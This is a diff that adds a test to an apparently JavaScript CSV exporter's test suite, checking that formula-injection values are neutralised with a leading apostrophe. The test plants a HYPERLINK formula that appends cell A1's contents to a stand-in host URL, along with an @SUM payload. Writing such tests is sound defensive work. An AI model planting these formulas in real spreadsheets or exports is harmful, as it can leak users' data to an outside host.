@@ -115,6 +115,16 @@ highlights: 2
     expect(said.at(-1)).toContain("0 files changed");
   });
 
+  it("writes no cell that a spreadsheet would run", async () => {
+    small.lines.note = '=HYPERLINK("https://a.example/?"&A1,"more")';
+    small.law.title = "@SUM(1+1)";
+    await run("csv");
+    const csv = await readFile(join(folder, "highlights.csv"), "utf8");
+    expect(csv).toContain(`"'=HYPERLINK(""https://a.example/?""&A1,""more"")"`);
+    expect(csv).toContain(",'@SUM(1+1),");
+    expect(csv).not.toMatch(/(?:^|,)"?[=@]/m);
+  });
+
   it("says what is missing", async () => {
     expect(await run(undefined, [])).toBe(2);
     expect(await run(undefined, ["highlights"], "")).toBe(2);
